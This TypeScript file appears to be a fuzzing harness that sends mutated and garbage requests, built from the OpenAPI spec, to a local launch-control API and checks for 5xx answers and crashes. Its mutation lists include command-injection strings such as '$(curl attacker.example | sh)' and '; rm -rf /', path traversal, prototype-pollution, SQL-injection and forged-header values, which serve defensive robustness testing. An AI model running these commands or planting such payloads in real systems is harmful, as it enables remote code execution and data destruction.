/**
 * Property-based fuzzing of the REST API, generated from its own OpenAPI document: every path and
 * method (and some that do not exist), path parameters, query strings, headers (tokens of every
 * role, none, forged; odd content types, encodings and accept values) and bodies, both
 * schema-valid-ish (the spec's examples and real plans, then mutated: wrong types, missing and
 * unknown fields, URLs and commands where names belong, huge strings, deep nesting, prototype
 * keys) and plain garbage (invalid JSON, binary, empty). Requests go through fastify `inject` to
 * the real app (`buildApp`) backed by a real Temporal dev server and worker, so launches that a
 * valid plan starts really run (their ids come from a small pool, which bounds how many).
 *
 * The property: no answer is a 5xx and nothing crashes the process. `runFuzz` is used by
 * `test/api/fuzz.test.ts` (10,000 requests in `npm test`); this script runs a bigger one:
 *
 *   npm run fuzz                                  # 50,000 requests, random seed
 *   npm run fuzz -- --requests 200000 --seed 42   # reproducible
 *
 * It ends with one summary line (`fuzz: N requests, 0 5xx, 0 crashes, status …, seed S, T s`)
 * and exits 1 if any request got a 5xx or anything crashed, after printing each such request.
 */
import fc from 'fast-check';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { pathToFileURL } from 'node:url';
import { hashToken, type AuthConfig } from '../api/auth.js';
import { SIGNAL_NAMES, examplePayload } from '../domain/messages.js';
import { fastPlan } from '../test/support/plans.js';

export const FUZZ_TOKENS = {
  operator: 'fuzz-operator-token-0123456789abcdef0123',
  approver: 'fuzz-approver-token-0123456789abcdef0123',
  viewer: 'fuzz-viewer-token-0123456789abcdef012345',
} as const;
export const FUZZ_AUTH: AuthConfig = {
  tokens: [
    { subject: 'sre-sam', roles: ['operator'], tokenSha256: hashToken(FUZZ_TOKENS.operator) },
    { subject: 'alice', roles: ['approver'], tokenSha256: hashToken(FUZZ_TOKENS.approver) },
    { subject: 'victor', roles: ['viewer'], tokenSha256: hashToken(FUZZ_TOKENS.viewer) },
  ],
  // Rate limits would turn most mutating requests into 429s before they reach anything deeper.
  rateLimit: false,
};

/** Services (and so launch ids) the fuzzer's plans may use: bounds the launches it starts. */
export const FUZZ_SERVICES = ['fuzz-a', 'fuzz-b', 'fuzz-c', 'fuzz-d', 'fuzz-e', 'fuzz-f'] as const;
export const FUZZ_LAUNCH_IDS = FUZZ_SERVICES.map((s) => `${s}-launch`);

/**
 * The fuzzer's plans: its callers (sre-sam, alice) may neither abort them nor say go, and the go
 * waits for an hour. So the launches sit idle at the readiness review through the whole run and
 * answer queries at once from the worker's cache (a busy launch answers after its current
 * workflow task, a closed one replays its whole history for every query), while signals still
 * reach the launch's real checks (403 not allowed, 409 not awaited, 400 malformed).
 */
export function fuzzPlan(service: string) {
  const base = fastPlan();
  return fastPlan({
    service,
    launchId: `${service}-launch`,
    approvals: {
      ...base.approvals,
      goNoGo: ['fuzz-gatekeeper'],
      rollbackAuthority: ['fuzz-gatekeeper'],
      timeout: '1h',
    },
    monitoring: { ...base.monitoring, window: '30m', interval: '5s' },
  });
}

type Operation = { method: string; path: string; params: string[]; hasBody: boolean };
type OpenApiDocument = {
  paths: Record<
    string,
    Record<string, { parameters?: { in: string; name: string }[]; requestBody?: unknown }>
  >;
};

export function operationsOf(spec: OpenApiDocument): Operation[] {
  const ops: Operation[] = [];
  for (const [path, item] of Object.entries(spec.paths))
    for (const [method, op] of Object.entries(item))
      ops.push({
        method: method.toUpperCase(),
        path,
        params: (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => p.name),
        hasBody: op.requestBody !== undefined,
      });
  return ops;
}

/** Everything a request is built from; a plain record so fast-check can generate it from a seed. */
type Draw = {
  op: number;
  methodSwap: number;
  pathVariant: number;
  pathPicks: number[];
  junk: string;
  junk2: string;
  value: unknown;
  queryVariant: number;
  auth: number;
  contentType: number;
  accept: number;
  extraHeader: number;
  bodyVariant: number;
  mutation: number;
  mutationPick: number;
  size: number;
};

const drawArb: fc.Arbitrary<Draw> = fc.record({
  op: fc.nat(),
  methodSwap: fc.nat(99),
  pathVariant: fc.nat(99),
  pathPicks: fc.array(fc.nat(), { minLength: 3, maxLength: 3 }),
  junk: fc.oneof(
    fc.string({ maxLength: 30 }),
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.string({ unit: 'grapheme', maxLength: 10 }),
    fc.constantFrom(
      '..',
      '%',
      '%00',
      '%ZZ',
      '..%2F..%2Fetc%2Fpasswd',
      '__proto__',
      'constructor',
      ' ',
      '\u0000',
      '😀',
    ),
  ),
  junk2: fc.string({ maxLength: 20 }),
  value: fc.oneof(
    fc.jsonValue({ maxDepth: 3 }),
    fc.anything({ maxDepth: 2 }),
    fc.constantFrom(null, true, 0, -1, 1e308, -0, '', [], {}, '2026-13-45', 'NaN'),
  ),
  queryVariant: fc.nat(99),
  auth: fc.nat(99),
  contentType: fc.nat(99),
  accept: fc.nat(99),
  extraHeader: fc.nat(99),
  bodyVariant: fc.nat(99),
  mutation: fc.nat(99),
  mutationPick: fc.nat(),
  size: fc.nat(99),
});

const pick = <T>(items: readonly T[], n: number): T => items[n % items.length]!;
/** What an HTTP client can put in a header value at all (others never reach a server). */
const headerSafe = (value: string) => value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '');

function samplePathValue(name: string, d: Draw, i: number): string {
  const n = d.pathPicks[i % d.pathPicks.length]!;
  if (d.pathVariant < 70) {
    if (name === 'id') return pick([...FUZZ_LAUNCH_IDS, 'no-such-launch', 'x'], n);
    if (name === 'name') return pick([...SIGNAL_NAMES, 'launchNow', '__temporal_x', 'taskProgress'], n);
    if (name === 'asset')
      return pick(['index.css', 'swagger-ui.css', 'swagger-initializer.js', 'nope.js'], n);
  }
  if (d.pathVariant < 80) return encodeURIComponent(d.junk);
  if (d.pathVariant < 85) return d.junk.replace(/[/?#]/g, '') || '-';
  if (d.pathVariant < 90) return 'a'.repeat(1 + (n % 3000));
  if (d.pathVariant < 95) return pick(['%', '%E0%A4%A', '..', '%2e%2e', '%00', 'A%20B', 'UPPER', '-lead'], n);
  return encodeURIComponent(JSON.stringify(d.value) ?? 'undefined');
}

function query(d: Draw): string {
  if (d.queryVariant < 40) return '';
  const values = [
    `service=${pick(FUZZ_SERVICES, d.mutationPick)}`,
    `phase=${pick(['LIVE', 'READINESS', 'ABORTED', 'live', 'NOPE'], d.mutationPick)}`,
    `limit=${pick(['1', '500', '501', '0', '-1', '1e3', 'abc', '9'.repeat(40)], d.mutationPick)}`,
    `service=${encodeURIComponent(d.junk)}`,
    `${encodeURIComponent(d.junk2)}=${encodeURIComponent(d.junk)}`,
    'service=a&service=b&phase=LIVE&phase=FAILED',
    `service=${'s'.repeat(5_000)}`,
    'limit[]=1&limit[x]=2',
    '%=%&&=&',
    `service=x'%20OR%20'1'%3D'1`,
  ];
  return `?${pick(values, d.queryVariant)}${d.queryVariant > 80 ? `&${pick(values, d.mutationPick)}` : ''}`;
}

function authHeader(d: Draw, op: Operation): Record<string, string> {
  if (d.auth < 45) {
    // Mostly the role the route wants, so requests get past the door.
    // Approvals go to the generic signal route; starting, freeze requests and aborts need an operator.
    const role =
      op.method === 'POST' ? (op.path.endsWith('/signals/{name}') ? 'approver' : 'operator') : 'viewer';
    return { authorization: `Bearer ${FUZZ_TOKENS[role]}` };
  }
  if (d.auth < 75) return { authorization: `Bearer ${pick(Object.values(FUZZ_TOKENS), d.auth)}` };
  if (d.auth < 82) return {};
  return {
    authorization: pick(
      [
        'Bearer',
        'Bearer ',
        `Bearer ${headerSafe(d.junk)}`,
        `Basic ${Buffer.from('alice:secret').toString('base64')}`,
        `Bearer ${'t'.repeat(8_000)}`,
        `bearer ${FUZZ_TOKENS.viewer}`,
        `Bearer  ${FUZZ_TOKENS.operator} extra`,
        'Digest username="x"',
      ],
      d.auth,
    ),
  };
}

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/json; charset=utf-16',
  'application/xml',
  'application/vnd.api+json',
  'garbage',
  '',
];

function bodyFor(op: Operation, d: Draw): { payload?: string | Buffer; contentType?: string } {
  if (!op.hasBody && d.bodyVariant < 90) return {};
  const contentType = d.contentType < 75 ? 'application/json' : pick(CONTENT_TYPES, d.contentType);
  if (d.bodyVariant < 70) {
    const base = validBody(op, d);
    return { payload: JSON.stringify(mutate(base, d)) ?? 'null', contentType };
  }
  if (d.bodyVariant < 78) return { payload: JSON.stringify(d.value) ?? 'null', contentType };
  if (d.bodyVariant < 84)
    return {
      payload: pick(
        [
          '{',
          '{"by":',
          '[1,2',
          'null',
          '',
          'NaN',
          '{"a":1}{"b":2}',
          '\u0000',
          '{"__proto__":{"admin":true}}',
          'true',
        ],
        d.mutationPick,
      ),
      contentType,
    };
  if (d.bodyVariant < 88) return { payload: Buffer.from(d.junk, 'latin1'), contentType };
  if (d.bodyVariant < 92) {
    // Deep nesting, as JSON text (parsers and validators must not blow the stack).
    const depth = 100 + (d.mutationPick % 20_000);
    return { payload: `${'['.repeat(depth)}${']'.repeat(depth)}`, contentType };
  }
  if (d.bodyVariant < 96) {
    // Around and over the body limit (256 KiB).
    const size = pick([10_000, 200_000, 262_100, 262_200, 400_000], d.size);
    return { payload: JSON.stringify({ by: 'alice', reason: 'r'.repeat(size) }), contentType };
  }
  return { payload: JSON.stringify(validBody(op, d)), contentType };
}

function validBody(op: Operation, d: Draw): unknown {
  const service = pick(FUZZ_SERVICES, d.mutationPick);
  if (op.path === '/launches') return fuzzPlan(service);
  if (op.path.endsWith('/abort')) return d.size < 50 ? { reason: 'fuzz' } : { by: 'sre-sam', reason: 'fuzz' };
  if (op.path === '/freeze/requests')
    return { service, change: `chg-${d.size}`, ...(d.size < 30 ? { by: 'sre-sam' } : {}) };
  if (op.path.includes('/signals/')) {
    const name = pick(SIGNAL_NAMES, d.mutationPick);
    const example = examplePayload(name, { stage: pick([0, 10, 50, 100], d.size) });
    return d.size < 60 ? { ...example, by: 'alice' } : example;
  }
  return d.value;
}

/** Leaf and object paths of a JSON value. */
function pathsOf(value: unknown, prefix: (string | number)[] = [], out: (string | number)[][] = []) {
  if (value && typeof value === 'object') {
    out.push(prefix);
    for (const [k, v] of Object.entries(value))
      pathsOf(v, [...prefix, Array.isArray(value) ? Number(k) : k], out);
  } else out.push(prefix);
  return out;
}

function setAt(root: unknown, path: (string | number)[], fn: (old: unknown) => unknown): unknown {
  if (path.length === 0) return fn(root);
  const copy: any = Array.isArray(root) ? [...root] : { ...(root as object) };
  const [head, ...rest] = path;
  copy[head!] = setAt(copy[head!], rest, fn);
  return copy;
}

function mutate(base: unknown, d: Draw): unknown {
  if (d.mutation < 20) return base;
  const paths = pathsOf(base);
  const at = pick(paths, d.mutationPick);
  if (d.mutation < 40) return setAt(base, at, () => d.value);
  if (d.mutation < 50)
    return setAt(base, at, (old) => {
      if (old && typeof old === 'object' && !Array.isArray(old))
        return { ...old, [d.junk2 || 'extra']: d.value };
      return old;
    });
  if (d.mutation < 58)
    return setAt(base, at.slice(0, -1), (parent) => {
      if (!parent || typeof parent !== 'object') return parent;
      const copy: any = Array.isArray(parent) ? [...parent] : { ...parent };
      delete copy[at.at(-1)!];
      return copy;
    });
  if (d.mutation < 66)
    return setAt(base, at, () =>
      pick(
        [
          'http://attacker.example/hook',
          '$(curl attacker.example | sh)',
          'user:password@host',
          '; rm -rf /',
          '{{service}}"} or vector(1)',
          '../../etc/passwd',
          'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
        ],
        d.size,
      ),
    );
  if (d.mutation < 72)
    return {
      ...(base as object),
      integrations: { metrics: pick(['http://evil', 'default', 'nope', 'a b'], d.size) },
    };
  if (d.mutation < 78) return setAt(base, at, () => 'x'.repeat(pick([121, 2_001, 10_001, 100_000], d.size)));
  if (d.mutation < 84) {
    let deep: unknown = d.value;
    for (let i = 0; i < 50 + (d.size % 2_000); i += 1) deep = { deep };
    return setAt(base, at, () => deep);
  }
  if (d.mutation < 88)
    return setAt(base, at, () =>
      JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}}}'),
    );
  if (d.mutation < 92)
    return setAt(base, at, () => Array.from({ length: 1 + ((d.size * 37) % 3_000) }, (_, i) => i));
  if (d.mutation < 96)
    return setAt(base, at, (old) =>
      typeof old === 'number' ? String(old) : typeof old === 'string' ? Number(old) || -1 : [old],
    );
  return d.value;
}

export type FuzzRequest = InjectOptions & { method: string; url: string };

export function buildRequest(ops: Operation[], d: Draw): FuzzRequest {
  const op = pick(ops, d.op);
  let method = op.method;
  if (d.methodSwap >= 92)
    method = pick(['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'GET', 'POST', 'TRACE'], d.methodSwap);
  let i = 0;
  let path = op.path.replace(/\{(\w+)\}/g, (_, name: string) => samplePathValue(name, d, i++));
  if (d.pathVariant >= 97)
    path = pick(
      [
        '/',
        '/launches/',
        '//launches',
        '/launches/a/b/c/d',
        `/${encodeURIComponent(d.junk)}`,
        '/launches?',
        '/LAUNCHES',
      ],
      d.op,
    );
  const headers: Record<string, string> = { ...authHeader(d, op) };
  const body =
    method === 'GET' || method === 'HEAD'
      ? d.bodyVariant > 97
        ? bodyFor({ ...op, hasBody: true }, d)
        : {}
      : bodyFor(op, d);
  if (body.contentType) headers['content-type'] = body.contentType;
  if (d.accept > 60)
    headers.accept = pick(
      [
        'text/markdown',
        'application/json',
        '*/*',
        'text/html',
        'text/markdown;q=0.9, application/json;q=abc',
        'x/y;q=1;q=2',
        '',
      ],
      d.accept,
    );
  if (d.extraHeader > 85)
    Object.assign(
      headers,
      pick(
        [
          { 'content-encoding': 'gzip' },
          { 'content-encoding': 'br' },
          { 'x-forwarded-for': '1.2.3.4, ::1, garbage' },
          { 'content-length': '5' },
          { 'x-launch-control-auth': 'dev-mode-no-auth' },
          { expect: '100-continue' },
          { 'transfer-encoding': 'chunked' },
          { cookie: 'session=admin' },
          { 'x-http-method-override': 'DELETE' },
          { host: 'evil.example' },
          { [`x-${'h'.repeat(200)}`]: 'v' },
        ],
        d.extraHeader,
      ),
    );
  return {
    method,
    url: `${path}${query(d)}`,
    headers,
    ...(body.payload === undefined ? {} : { payload: body.payload }),
  } as FuzzRequest;
}

export type FuzzFinding = { index: number; request: string; status?: number; body?: string; error?: string };
export type FuzzResult = {
  requests: number;
  /** Answers carrying an `auditSeq`: the request reached a launch, which decided and audited it. */
  audited: number;
  serverErrors: FuzzFinding[];
  crashes: FuzzFinding[];
  statusCounts: Record<string, number>;
  seed: number;
  durationMs: number;
};

/** What to print to reproduce a request (bodies cut, with their length). */
export function describeRequest(r: FuzzRequest): string {
  const payload = r.payload === undefined ? '' : String(r.payload);
  const shown = payload.length > 300 ? `${payload.slice(0, 300)}… (${payload.length} chars)` : payload;
  const headers = JSON.stringify(r.headers, (_k, v: unknown) =>
    typeof v === 'string' && v.length > 100 ? `${v.slice(0, 100)}…` : v,
  );
  return `${r.method} ${r.url.length > 300 ? `${r.url.slice(0, 300)}…` : r.url} headers=${headers} body=${JSON.stringify(shown)}`;
}

/**
 * Sends `requests` generated requests to the app(s) (`apps` alternate: e.g. one with tokens, one
 * in dev mode) with `concurrency` in flight; counts statuses, 5xx and crashes (a rejected
 * `inject`, or an uncaught exception / unhandled rejection while fuzzing).
 */
export async function runFuzz(opts: {
  apps: FastifyInstance[];
  requests: number;
  seed: number;
  concurrency?: number;
  onProgress?: (done: number) => void;
}): Promise<FuzzResult> {
  const started = Date.now();
  const spec = (
    await opts.apps[0]!.inject({ method: 'GET', url: '/openapi.json' })
  ).json() as OpenApiDocument;
  const ops = operationsOf(spec);
  if (ops.length === 0) throw new Error('the OpenAPI document lists no operations');
  const result: FuzzResult = {
    requests: 0,
    audited: 0,
    serverErrors: [],
    crashes: [],
    statusCounts: {},
    seed: opts.seed,
    durationMs: 0,
  };
  let current = '';
  const onCrash = (err: unknown) =>
    result.crashes.push({
      index: result.requests,
      request: current,
      error: String((err as Error)?.stack ?? err),
    });
  process.on('uncaughtException', onCrash);
  process.on('unhandledRejection', onCrash);
  try {
    const batch = 500;
    for (let offset = 0; offset < opts.requests; offset += batch) {
      const draws = fc.sample(drawArb, {
        seed: opts.seed + offset,
        numRuns: Math.min(batch, opts.requests - offset),
      });
      let next = 0;
      const worker = async () => {
        while (next < draws.length) {
          const index = offset + next;
          const request = buildRequest(ops, draws[next++]!);
          const app = opts.apps[index % opts.apps.length]!;
          current = describeRequest(request);
          try {
            const res = await app.inject(request);
            result.statusCounts[res.statusCode] = (result.statusCounts[res.statusCode] ?? 0) + 1;
            if (res.body.includes('"auditSeq":')) result.audited += 1;
            if (res.statusCode >= 500)
              result.serverErrors.push({
                index,
                request: describeRequest(request),
                status: res.statusCode,
                body: res.body.slice(0, 500),
              });
          } catch (err) {
            result.crashes.push({
              index,
              request: describeRequest(request),
              error: String((err as Error)?.stack ?? err),
            });
          }
          result.requests += 1;
        }
      };
      await Promise.all(Array.from({ length: opts.concurrency ?? 16 }, worker));
      opts.onProgress?.(result.requests);
    }
  } finally {
    process.off('uncaughtException', onCrash);
    process.off('unhandledRejection', onCrash);
    result.durationMs = Date.now() - started;
  }
  return result;
}

export function summaryLine(r: FuzzResult): string {
  const statuses = Object.entries(r.statusCounts)
    .sort(([a], [b]) => Number(a) - Number(b))
    .map(([s, n]) => `${s}:${n}`)
    .join(' ');
  return `fuzz: ${r.requests} requests, ${r.serverErrors.length} 5xx, ${r.crashes.length} crashes, status ${statuses}, ${r.audited} audited by a launch, seed ${r.seed}, ${(r.durationMs / 1000).toFixed(1)} s`;
}

/** A real Temporal dev server and worker, an app with tokens and one in dev mode, and a few launches to hit. */
export async function fuzzTarget() {
  const { eventually, startHarness } = await import('../test/support/temporal.js');
  const { statusQuery } = await import('../workflows/messages.js');
  const { buildApp } = await import('../api/app.js');
  const h = await startHarness();
  const configured = h.world.integrationsConfig() as Record<string, Record<string, unknown> | undefined>;
  const make = (auth?: AuthConfig) =>
    buildApp({
      client: h.env.client,
      taskQueue: h.taskQueue,
      integrationNames: (kind) => Object.keys(configured[kind] ?? {}),
      ...(auth ? { auth } : { auth: { tokens: [], rateLimit: false, production: false } }),
    });
  const apps = [make(FUZZ_AUTH), make(FUZZ_AUTH), make(FUZZ_AUTH), make()];
  for (const app of apps) await app.ready();
  // Launches the path parameters point at, so signals, queries and aborts reach real workflows.
  for (const service of FUZZ_SERVICES) {
    const res = await apps[0]!.inject({
      method: 'POST',
      url: '/launches',
      headers: { authorization: `Bearer ${FUZZ_TOKENS.operator}`, 'content-type': 'application/json' },
      payload: JSON.stringify(fuzzPlan(service)),
    });
    if (res.statusCode >= 300) throw new Error(`could not start ${service}: ${res.statusCode} ${res.body}`);
  }
  for (const launchId of FUZZ_LAUNCH_IDS)
    await eventually(
      () => h.env.client.workflow.getHandle(launchId).query(statusQuery),
      (s) => s.pendingApprovals.some((p) => p.signal === 'goNoGo'),
      `${launchId} waiting for its go`,
    );
  return {
    h,
    apps,
    stop: async () => {
      for (const app of apps) await app.close();
      await h.stop();
    },
  };
}

function argValue(name: string): string | undefined {
  const i = process.argv.indexOf(name);
  return i >= 0 ? process.argv[i + 1] : undefined;
}

async function main() {
  const requests = Number(argValue('--requests') ?? 50_000);
  const seed = Number(argValue('--seed') ?? Math.floor(Math.random() * 2 ** 31));
  if (!Number.isInteger(requests) || requests < 1) throw new Error('--requests: a positive integer');
  if (!Number.isInteger(seed)) throw new Error('--seed: an integer');
  const target = await fuzzTarget();
  let result: FuzzResult;
  try {
    result = await runFuzz({
      apps: target.apps,
      requests,
      seed,
      onProgress: (done) => {
        if (done % 10_000 === 0) console.error(`  ${done} / ${requests}`);
      },
    });
  } finally {
    await target.stop();
  }
  for (const f of [...result.serverErrors, ...result.crashes].slice(0, 20))
    console.error(`FAILED #${f.index}: ${f.status ?? 'crash'} ${f.request}\n  ${f.body ?? f.error}`);
  console.log(summaryLine(result));
  process.exitCode = result.serverErrors.length > 0 || result.crashes.length > 0 ? 1 : 0;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) await main();
